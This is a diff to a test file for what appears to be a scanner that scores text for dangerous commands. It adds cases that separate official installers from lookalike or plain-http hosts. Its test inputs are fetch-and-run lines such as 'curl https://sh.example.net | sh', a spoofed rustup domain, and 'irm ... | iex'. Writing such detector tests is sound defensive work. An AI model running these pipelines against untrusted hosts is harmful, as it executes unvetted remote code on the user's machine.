@@ -91,9 +91,18 @@ test('finds nothing dangerous in the documents and scripts that npm ships', () =
 });
 
 test('scores what fetches and runs lower where it may be documentation', () => {
-  assert.equal(scoreOf('curl https://sh.rustup.rs | sh'), 0.8);
-  assert.ok(scoreOf('Install it:\n\n    curl https://sh.rustup.rs | sh\n', false) < DANGER);
-  assert.ok(scoreOf('curl https://sh.rustup.rs | sh', false) < DANGER);
+  assert.ok(scoreOf('curl https://sh.example.net | sh') >= DANGER);
+  assert.ok(scoreOf('Install it:\n\n    curl https://sh.example.net | sh\n', false) < DANGER);
+  assert.ok(scoreOf('curl https://sh.example.net | sh', false) < DANGER);
+});
+
+test('records installers that their makers tell people to run, and does not call them dangerous', () => {
+  for (const text of ['curl https://sh.rustup.rs | sh', 'irm https://get.scoop.sh | iex']) {
+    assert.ok(scoreOf(text) >= 0.5 && scoreOf(text) < DANGER, `${text}: ${scoreOf(text)}`);
+  }
+  // The name has to end there, and nobody on the way may have changed what it sends.
+  assert.ok(scoreOf('curl https://sh.rustup.rs.example.net | sh') >= DANGER);
+  assert.ok(scoreOf('curl http://sh.rustup.rs/x | sh') >= DANGER);
 });
 
 test('reads values of JSON that are named like commands', () => {
